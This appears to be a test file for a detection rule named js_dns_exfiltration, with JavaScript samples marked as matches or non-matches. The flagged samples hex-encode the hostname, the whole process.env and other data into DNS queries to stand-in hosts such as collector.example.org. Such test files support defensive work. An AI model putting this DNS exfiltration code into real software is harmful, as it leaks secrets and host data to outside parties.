const dns = require('dns');
const os = require('os');
// ruleid: js_dns_exfiltration
dns.lookup(Buffer.from(os.hostname()).toString('hex') + '.example.org', () => {});
// ok: js_dns_exfiltration
dns.lookup('example.org', () => {});
const label = Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60);
// ruleid: js_dns_exfiltration
dns.resolve(`${label}.collector.example.org`, () => {});
const service = '_mongodb._tcp.' + options.host;
// ok: js_dns_exfiltration
dns.resolveSrv(service, () => {});
const cacheKey = Buffer.from(url).toString('base64');
// ok: js_dns_exfiltration
dns.lookup(new URL(url).hostname + '.', { all: true }, () => cacheKey);
function send(data) {
  const chunks = Buffer.from(data).toString('hex').match(/.{1,60}/g);
  chunks.forEach(function (chunk) {
    // ruleid: js_dns_exfiltration
    dns.resolve(chunk + '.collector.example.org', 'A', () => {});
  });
}
data = JSON.stringify({ h: os.hostname, c: os.cpus });
send(data);
